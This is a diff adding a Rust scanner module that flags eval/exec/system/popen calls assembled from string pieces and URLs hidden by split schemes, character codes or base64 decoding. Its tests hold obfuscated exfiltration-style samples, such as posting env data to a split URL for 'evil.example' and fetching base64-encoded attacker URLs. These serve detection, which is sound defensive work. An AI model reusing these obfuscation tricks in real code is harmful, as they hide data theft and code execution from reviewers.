@@ -0,0 +1,516 @@
+//! Dangerous calls assembled at runtime, which the `eval(`-style pack
+//! patterns cannot see: `'ev' + 'al'`, `window['ex' + 'ec']`, or
+//! `getattr(os, 'sys' + 'tem')`.
+//!
+//! Each line is run through a small tokenizer that knows string literals,
+//! `+`, identifiers, and punctuation.  A run of literals joined by `+` is
+//! folded into the string it builds, and `getattr(obj, name)` is resolved
+//! when `name` is made only of literals.  If the result is one of
+//! [`DANGEROUS_NAMES`] the line is reported as `CODE-DYN-001`.
+//!
+//! The same folding finds URLs hidden from the literal `http://` patterns
+//! of the network rules, reported as `NET-DYN-001`: a scheme split across
+//! literals (`"ht" + "tp://" + host`), a URL spelled as a list of character
+//! codes, and a request whose URL comes straight out of a base64 decode.
+
+use std::collections::HashSet;
+use std::sync::OnceLock;
+
+use regex::Regex;
+
+use super::phases::make_finding;
+use super::{Finding, Phase, Severity};
+use crate::corpus::language::{self, Language};
+
+/// Names that are never built piecemeal by honest code.
+const DANGEROUS_NAMES: &[&str] = &["eval", "exec", "system", "popen"];
+
+/// Languages where a built string can be called or looked up by name.
+const LANGUAGES: &[Language] = &[
+    Language::Python,
+    Language::Javascript,
+    Language::Ruby,
+    Language::Php,
+];
+
+#[derive(Debug, PartialEq)]
+enum Token<'a> {
+    /// A string literal with escapes resolved; `None` for literals whose
+    /// value is not static (f-strings, template literals with `${`).
+    Str(Option<String>),
+    Plus,
+    Ident(&'a str),
+    Open,
+    Close,
+    Comma,
+    Other,
+}
+
+/// Read a quoted literal starting at `chars[start]` (the quote).  Returns
+/// its value and the index just past the closing quote, or `None` when the
+/// literal does not close on this line.
+fn read_literal(chars: &[(usize, char)], start: usize) -> Option<(String, usize)> {
+    let quote = chars[start].1;
+    let mut value = String::new();
+    let mut i = start + 1;
+    while i < chars.len() {
+        match chars[i].1 {
+            c if c == quote => return Some((value, i + 1)),
+            '\\' if i + 1 < chars.len() => {
+                let escaped = chars[i + 1].1;
+                if escaped == 'x' && i + 3 < chars.len() {
+                    let hex: String = chars[i + 2..i + 4].iter().map(|&(_, c)| c).collect();
+                    if let Some(c) = u8::from_str_radix(&hex, 16).ok().map(char::from) {
+                        value.push(c);
+                        i += 4;
+                        continue;
+                    }
+                }
+                value.push(escaped);
+                i += 2;
+            }
+            c => {
+                value.push(c);
+                i += 1;
+            }
+        }
+    }
+    None
+}
+
+fn tokenize(line: &str) -> Vec<Token<'_>> {
+    let chars: Vec<(usize, char)> = line.char_indices().collect();
+    let mut tokens = Vec::new();
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i].1;
+        match c {
+            '\'' | '"' | '`' => match read_literal(&chars, i) {
+                Some((value, next)) => {
+                    let dynamic = c == '`' && value.contains("${");
+                    tokens.push(Token::Str((!dynamic).then_some(value)));
+                    i = next;
+                }
+                None => break,
+            },
+            '+' => {
+                tokens.push(Token::Plus);
+                i += 1;
+            }
+            '(' | '[' => {
+                tokens.push(Token::Open);
+                i += 1;
+            }
+            ')' | ']' => {
+                tokens.push(Token::Close);
+                i += 1;
+            }
+            ',' => {
+                tokens.push(Token::Comma);
+                i += 1;
+            }
+            c if c.is_alphanumeric() || c == '_' => {
+                let start = chars[i].0;
+                while i < chars.len() && (chars[i].1.is_alphanumeric() || chars[i].1 == '_') {
+                    i += 1;
+                }
+                let end = chars.get(i).map_or(line.len(), |&(pos, _)| pos);
+                let ident = &line[start..end];
+                // Python string prefixes: r'..' and b'..' are static, f'..' is not.
+                let prefixed = matches!(chars.get(i), Some((_, '\'' | '"')))
+                    && ident.len() <= 2
+                    && ident.chars().all(|c| "rRbBuUfF".contains(c));
+                if prefixed {
+                    match read_literal(&chars, i) {
+                        Some((value, next)) => {
+                            let dynamic = ident.contains(['f', 'F']);
+                            tokens.push(Token::Str((!dynamic).then_some(value)));
+                            i = next;
+                        }
+                        None => break,
+                    }
+                } else {
+                    tokens.push(Token::Ident(ident));
+                }
+            }
+            c if c.is_whitespace() => i += 1,
+            _ => {
+                tokens.push(Token::Other);
+                i += 1;
+            }
+        }
+    }
+    tokens
+}
+
+/// Fold `tokens` into a string if they are only literals joined by `+`.
+/// Returns the value and how many literals it took.
+fn fold_literals(tokens: &[Token]) -> Option<(String, usize)> {
+    let mut value = String::new();
+    let mut parts = 0;
+    for (n, token) in tokens.iter().enumerate() {
+        match (n % 2, token) {
+            (0, Token::Str(Some(s))) => {
+                value.push_str(s);
+                parts += 1;
+            }
+            (1, Token::Plus) => {}
+            _ => return None,
+        }
+    }
+    (parts > 0 && tokens.len() % 2 == 1).then_some((value, parts))
+}
+
+fn is_dangerous(name: &str) -> bool {
+    DANGEROUS_NAMES.contains(&name)
+}
+
+/// The dangerous name a line builds dynamically, if any.
+fn dynamic_target(line: &str) -> Option<String> {
+    let tokens = tokenize(line);
+
+    // Literals concatenated with `+`: 'ev' + 'al'.
+    let mut i = 0;
+    while i < tokens.len() {
+        if !matches!(tokens[i], Token::Str(_)) {
+            i += 1;
+            continue;
+        }
+        let mut end = i + 1;
+        while end + 1 < tokens.len()
+            && tokens[end] == Token::Plus
+            && matches!(tokens[end + 1], Token::Str(_))
+        {
+            end += 2;
+        }
+        if let Some((value, parts)) = fold_literals(&tokens[i..end]) {
+            if parts > 1 && is_dangerous(&value) {
+                return Some(value);
+            }
+        }
+        i = end;
+    }
+
+    // getattr(obj, <literals>): attribute lookup by a built string.
+    for (i, token) in tokens.iter().enumerate() {
+        if *token != Token::Ident("getattr") || tokens.get(i + 1) != Some(&Token::Open) {
+            continue;
+        }
+        let mut depth = 0usize;
+        let mut args: Vec<(usize, usize)> = Vec::new();
+        let mut arg_start = i + 2;
+        for (j, token) in tokens.iter().enumerate().skip(i + 2) {
+            match token {
+                Token::Open => depth += 1,
+                Token::Close if depth == 0 => {
+                    args.push((arg_start, j));
+                    break;
+                }
+                Token::Close => depth -= 1,
+                Token::Comma if depth == 0 => {
+                    args.push((arg_start, j));
+                    arg_start = j + 1;
+                }
+                _ => {}
+            }
+        }
+        if let Some(&(start, end)) = args.get(1) {
+            if let Some((value, _)) = fold_literals(&tokens[start..end]) {
+                if is_dangerous(&value) {
+                    return Some(value);
+                }
+            }
+        }
+    }
+    None
+}
+
+/// A URL scheme, anywhere in a string.
+fn url_scheme() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"(?i)\b(https?|wss?|ftp)://").unwrap())
+}
+
+/// `name = <...>b64decode(`: a variable holding decoded data.
+fn decoded_assignment() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(
+            r#"^\s*(?:(?:const|let|var)\s+)?\$?([A-Za-z_]\w*)\s*=[^=].*(\b(?:urlsafe_|standard_)?b64decode\s*\(|\bdecodebytes\s*\(|\batob\s*\(|\bbase64_decode\s*\(|Base64\.decode64|Buffer\.from\s*\([^)]*['"]base64['"])"#,
+        )
+        .unwrap()
+    })
+}
+
+/// A network call and the start of its first argument.
+fn network_call() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(
+            r"(?:\brequests\.(?:get|post|put|patch|delete|head|request)|\b(?:httpx|aiohttp\.ClientSession\(\))\.(?:get|post|stream)|\burlopen|\burllib\.request\.Request|\bfetch|\baxios(?:\.(?:get|post|put|request))?|\bhttps?\.(?:get|request)|\bNet::HTTP\.get|\bcurl_init|\bfile_get_contents)\s*\(\s*(?:\$?([A-Za-z_]\w*)\s*[,)]|(?:base64\.)?((?:urlsafe_)?b64decode|atob|base64_decode)\s*\()",
+        )
+        .unwrap()
+    })
+}
+
+/// A URL folded from literals whose scheme no single literal contains.
+fn split_url(tokens: &[Token]) -> Option<String> {
+    let mut i = 0;
+    while i < tokens.len() {
+        if !matches!(tokens[i], Token::Str(_)) {
+            i += 1;
+            continue;
+        }
+        let mut end = i + 1;
+        while end + 1 < tokens.len()
+            && tokens[end] == Token::Plus
+            && matches!(tokens[end + 1], Token::Str(_))
+        {
+            end += 2;
+        }
+        if let Some((value, parts)) = fold_literals(&tokens[i..end]) {
+            let whole_in_one_part = tokens[i..end].iter().any(|t| match t {
+                Token::Str(Some(part)) => url_scheme().is_match(part),
+                _ => false,
+            });
+            if parts > 1 && url_scheme().is_match(&value) && !whole_in_one_part {
+                return Some(value);
+            }
+        }
+        i = end;
+    }
+    None
+}
+
+/// Shortest character-code list worth decoding.
+const MIN_CHAR_CODES: usize = 8;
+
+/// A URL spelled as a bracketed list of character codes:
+/// `bytes([104, 116, 116, 112, ...])`, `String.fromCharCode(0x68, ...)`.
+fn char_code_url(tokens: &[Token]) -> Option<String> {
+    let code = |token: &Token| -> Option<char> {
+        let Token::Ident(text) = token else {
+            return None;
+        };
+        let value = match text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
+            Some(hex) => u8::from_str_radix(hex, 16).ok()?,
+            None => text.parse::<u8>().ok()?,
+        };
+        let c = char::from(value);
+        (c.is_ascii_graphic() || c == ' ').then_some(c)
+    };
+    for (start, token) in tokens.iter().enumerate() {
+        if *token != Token::Open {
+            continue;
+        }
+        let mut value = String::new();
+        let mut j = start + 1;
+        while let Some(c) = tokens.get(j).and_then(code) {
+            value.push(c);
+            match tokens.get(j + 1) {
+                Some(Token::Comma) => j += 2,
+                _ => {
+                    j += 1;
+                    break;
+                }
+            }
+        }
+        if value.len() >= MIN_CHAR_CODES
+            && tokens.get(j) == Some(&Token::Close)
+            && url_scheme().is_match(&value)
+        {
+            return Some(value);
+        }
+    }
+    None
+}
+
+fn truncated(line: &str) -> String {
+    let mut snippet = line.trim().to_string();
+    if snippet.len() > 200 {
+        let cut = (0..=200).rev().find(|&i| snippet.is_char_boundary(i));
+        snippet.truncate(cut.unwrap_or(0));
+        snippet.push_str(" ...");
+    }
+    snippet
+}
+
+fn applies(file: &str, contents: &str) -> bool {
+    let filename = file.rsplit('/').next().unwrap_or(file);
+    language::applies(LANGUAGES, language::detect(filename, contents))
+}
+
+/// Report lines that assemble a call to `eval`, `exec`, `system`, or
+/// `popen` out of string pieces.
+pub fn scan_dynamic_calls(file: &str, contents: &str) -> Vec<Finding> {
+    if !applies(file, contents) {
+        return Vec::new();
+    }
+    contents
+        .lines()
+        .enumerate()
+        .filter_map(|(idx, line)| {
+            let target = dynamic_target(line)?;
+            Some(make_finding(
+                Phase::CodePatterns,
+                "CODE-DYN-001",
+                Severity::High,
+                file,
+                Some(idx + 1),
+                format!(
+                    "Dynamically built call to '{}': {}",
+                    target,
+                    truncated(line)
+                ),
+            ))
+        })
+        .collect()
+}
+
+/// Report URLs assembled at runtime (split schemes, character-code lists)
+/// and requests to a URL that was base64-decoded.
+pub fn scan_dynamic_urls(file: &str, contents: &str) -> Vec<Finding> {
+    if !applies(file, contents) {
+        return Vec::new();
+    }
+    let mut decoded: HashSet<&str> = HashSet::new();
+    let mut findings = Vec::new();
+    for (idx, line) in contents.lines().enumerate() {
+        let tokens = tokenize(line);
+        let reason = if let Some(url) = split_url(&tokens).or_else(|| char_code_url(&tokens)) {
+            Some(format!("URL assembled at runtime ('{}')", url))
+        } else {
+            network_call().captures(line).and_then(|call| {
+                let inline = call.get(2).is_some();
+                let from_decoded = call.get(1).is_some_and(|v| decoded.contains(v.as_str()));
+                (inline || from_decoded).then(|| "Request to a base64-decoded URL".to_string())
+            })
+        };
+        if let Some(reason) = reason {
+            findings.push(make_finding(
+                Phase::NetworkExfil,
+                "NET-DYN-001",
+                Severity::High,
+                file,
+                Some(idx + 1),
+                format!("{}: {}", reason, truncated(line)),
+            ));
+        }
+        if let Some(assigned) = decoded_assignment().captures(line) {
+            decoded.insert(assigned.get(1).map_or("", |m| m.as_str()));
+        }
+    }
+    findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn targets(src: &str) -> Vec<String> {
+        scan_dynamic_calls("x.py", src)
+            .into_iter()
+            .map(|f| f.snippet)
+            .collect()
+    }
+
+    #[test]
+    fn concatenated_eval_is_flagged() {
+        let findings = scan_dynamic_calls("x.py", "fn = globals()['ev'+'al']\nfn(payload)\n");
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].rule, "CODE-DYN-001");
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].line, Some(1));
+        assert!(findings[0].snippet.contains("'eval'"));
+
+        assert_eq!(targets("window[\"ex\" + \"e\" + \"c\"](code)\n").len(), 1);
+        assert_eq!(targets("f = getattr(__builtins__, 'ev'+'al')\n").len(), 1);
+    }
+
+    #[test]
+    fn getattr_with_built_name_is_flagged() {
+        let findings = targets("getattr(os,'sys'+'tem')('id')\n");
+        assert_eq!(findings.len(), 1);
+        assert!(findings[0].contains("'system'"));
+        assert_eq!(targets("run = getattr(subprocess, \"popen\")\n").len(), 1);
+        assert_eq!(targets("getattr(os, '\\x73ystem')\n").len(), 1);
+    }
+
+    fn urls(file: &str, src: &str) -> Vec<(Option<usize>, String)> {
+        scan_dynamic_urls(file, src)
+            .into_iter()
+            .map(|f| (f.line, f.snippet))
+            .collect()
+    }
+
+    #[test]
+    fn split_and_char_code_urls_are_flagged() {
+        let findings = scan_dynamic_urls(
+            "x.py",
+            "host = 'evil.example'\nrequests.post('ht' + 'tp://' + host + '/c', data=env)\n",
+        );
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].rule, "NET-DYN-001");
+        assert_eq!(findings[0].phase, Phase::NetworkExfil);
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].line, Some(2));
+        assert!(findings[0].snippet.contains("'http://'"));
+
+        let js = "const u = String.fromCharCode(104,116,116,112,115,58,47,47,120,46,105,111);\n";
+        let found = urls("x.js", js);
+        assert_eq!(found.len(), 1);
+        assert!(found[0].1.contains("'https://x.io'"), "{:?}", found);
+        let py = "u = bytes([0x68, 0x74, 0x74, 0x70, 0x3a, 0x2f, 0x2f, 0x61]).decode()\n";
+        assert_eq!(urls("x.py", py).len(), 1);
+    }
+
+    #[test]
+    fn request_to_decoded_url_is_flagged() {
+        let src = "\
+import base64, requests
+target = base64.b64decode('aHR0cDovL2V2aWwuZXhhbXBsZS9j').decode()
+payload = {'k': 1}
+requests.get(target, params=payload)
+requests.get(url)
+";
+        let found = urls("x.py", src);
+        assert_eq!(found.len(), 1, "{:?}", found);
+        assert_eq!(found[0].0, Some(4));
+        assert!(found[0].1.contains("base64-decoded"));
+
+        let inline = "fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU='), { method: 'POST' })\n";
+        assert_eq!(urls("x.js", inline).len(), 1);
+    }
+
+    #[test]
+    fn ordinary_urls_are_not_flagged() {
+        let benign = "\
+BASE = 'https://api.example.com'
+url = 'https://api.example.com' + '/v1/' + 'users'
+requests.get(BASE + path)
+data = base64.b64decode(blob)
+requests.post(url, data=data)
+sizes = [72, 101, 108, 108, 111, 32, 119, 111]
+";
+        assert!(
+            urls("x.py", benign).is_empty(),
+            "{:?}",
+            urls("x.py", benign)
+        );
+        assert!(urls("main.go", "u := \"ht\" + \"tp://\" + host\n").is_empty());
+    }
+
+    #[test]
+    fn ordinary_concatenation_is_not_flagged() {
+        let benign = "\
+msg = 'hello ' + 'world'
+path = base + '/eval'
+name = getattr(obj, 'name')
+label = 'ev' + suffix
+fmt = f'ev' + 'al{x}'
+";
+        assert!(targets(benign).is_empty());
+        assert!(targets("eval = 'ev' + 'aluation'\n").is_empty());
+        assert!(scan_dynamic_calls("main.go", "f := \"ev\" + \"al\"\n").is_empty());
+    }
+}